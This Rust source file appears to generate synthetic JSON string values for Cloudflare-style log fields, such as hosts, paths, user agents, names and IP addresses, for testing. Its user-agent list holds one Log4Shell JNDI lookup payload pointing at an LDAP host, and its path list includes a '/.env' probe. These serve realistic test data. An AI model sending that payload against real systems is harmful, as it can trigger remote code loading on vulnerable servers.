//! Texts as JSON strings, chosen by the name of their field.

use std::io::Write;

use super::dice::Dice;

const HOSTS: [&str; 6] = [
    "www.burritobot.example",
    "api.burritobot.example",
    "shop.example.com",
    "mail.example.org",
    "bücher.example",
    "cdn.example.net",
];
const PATHS: [&str; 7] = [
    "/",
    "/menu/burritos",
    "/api/v2/orders?id=81723&sort=desc",
    "/search?q=jalape%C3%B1o",
    "/assets/app.5f3a9c11.js",
    "/.env",
    r"/a\\b\/c",
];
const AGENTS: [&str; 5] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like \
     Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "curl/8.11.0",
    r#"${jndi:ldap:\/\/198.18.0.7\/a} \"quoted\""#,
];
const NAMES: [&str; 8] = [
    "Ana Souza",
    "Łukasz Wiśniewski",
    "東京 オフィス",
    "Jos\\u00e9 Pe\\u00f1a",
    "laptop-4711",
    "\\ud83c\\udf2f taco 🌮",
    r#"the \"quiet\" one"#,
    "Allow, then log",
];
const SENTENCES: [&str; 5] = [
    "The request matched a rule of the managed ruleset.",
    "Tunnel is up;\\tall 4 connections\\nare registered",
    "contains card numbers, 3 matches",
    r"C:\\Users\\ana\\notes.txt",
    "не найдено — нет такого узла",
];
const WORDS: [&str; 8] =
    ["unknown", "default", "managed", "enabled", "primary", "standard", "", "high"];

/// Contents of strings for fields whose names hold one of these parts; the first match counts.
const BY_NAME: [(&[&str], &[&str]); 14] = [
    (&["UserAgent"], &AGENTS),
    (&["Country", "Continent", "RegionCode"], &["us", "de", "gb", "br", "jp", "in", "T1"]),
    (&["City", "Location"], &["Chicago", "Köln", "São Paulo", "東京", "Łódź"]),
    (&["Colo"], &["ORD", "FRA", "GRU", "NRT", "SYD"]),
    (&["Method"], &["GET", "GET", "GET", "POST", "HEAD", "DELETE"]),
    (&["Scheme"], &["https", "https", "http"]),
    (&["Protocol", "Proto", "HTTPVersion"], &["HTTP/2", "HTTP/3", "HTTP/1.1", "TCP", "UDP"]),
    (&["TLS", "Tls", "SSL"], &["TLSv1.3", "TLSv1.2", "AEAD-AES128-GCM-SHA256", "none"]),
    (&["Action", "Decision", "Verdict"], &["allow", "block", "log", "managed_challenge", "skip"]),
    (&["Status", "Outcome", "Result"], &["success", "ok", "failure", "pass", "miss", "hit"]),
    (&["Version"], &["2026.11.0", "14.6.1", "1.0", "0"]),
    (&["Path", "URI", "Query"], &PATHS),
    (&["Name", "Subject", "Title"], &NAMES),
    (
        &["Message", "Description", "Reason", "Body", "Payload", "Error", "Justification"],
        &SENTENCES,
    ),
];

/// Appends a JSON string.
pub(super) fn write(name: &str, dice: &mut Dice, out: &mut Vec<u8>) {
    let has = |parts: &[&str]| parts.iter().any(|part| name.contains(part));
    out.push(b'"');
    if has(&["RayID"]) {
        hex(dice, 1, out);
    } else if has(&["Email", "Recipient", "Sender", "Approver"]) {
        let _ = write!(out, "user{}@{}", dice.below(5_000), dice.pick(&HOSTS));
    } else if has(&["JSON"]) {
        let _ = write!(out, r#"[{{\"type\":\"A\",\"ttl\":{}}}]"#, dice.below(3_600));
    } else if has(&["Hash", "Fingerprint", "JA3", "JA4"]) {
        hex(dice, 2, out);
    } else if has(&["URL", "Referer", "Referrer", "Link"]) && !has(&["Path", "Query", "Host"]) {
        let _ = write!(out, "https://{}{}", dice.pick(&HOSTS), dice.pick(&PATHS));
    } else if has(&["Host", "Domain", "QueryName", "SNI", "ZoneName", "CNAME", "FQDN"]) {
        out.extend_from_slice(dice.pick(&HOSTS).as_bytes());
    } else if name.ends_with("ID") || name.ends_with("IDs") || has(&["UUID", "AUD"]) {
        uuid(dice, out);
    } else if is_address(name) {
        address(dice, out);
    } else {
        let by_name = BY_NAME.iter().find(|(parts, _)| has(parts));
        let contents = by_name.map_or(&WORDS[..], |(_, contents)| contents);
        out.extend_from_slice(dice.pick(contents).as_bytes());
    }
    out.push(b'"');
}

fn is_address(name: &str) -> bool {
    ["IP", "IPs", "Address", "Addr"].iter().any(|end| name.ends_with(end))
}

fn address(dice: &mut Dice, out: &mut Vec<u8>) {
    if dice.chance(250) {
        let _ = write!(out, "2001:db8:{:x}::{:x}", dice.below(65_536), 1 + dice.below(9_999));
    } else {
        let [half, third, last] = [2, 256, 254].map(|bound| dice.below(bound));
        let _ = write!(out, "198.{}.{third}.{}", 18 + half, last + 1);
    }
}

fn hex(dice: &mut Dice, words: u32, out: &mut Vec<u8>) {
    for _ in 0..words {
        let _ = write!(out, "{:016x}", dice.roll());
    }
}

fn uuid(dice: &mut Dice, out: &mut Vec<u8>) {
    let (high, low) = (dice.roll(), dice.roll());
    let [first, second, third] = [high >> 32, (high >> 16) & 0xffff, high & 0xfff];
    let [fourth, fifth] = [0x8000 | (low >> 50), low & 0xffff_ffff_ffff];
    let _ = write!(out, "{first:08x}-{second:04x}-4{third:03x}-{fourth:04x}-{fifth:012x}");
}
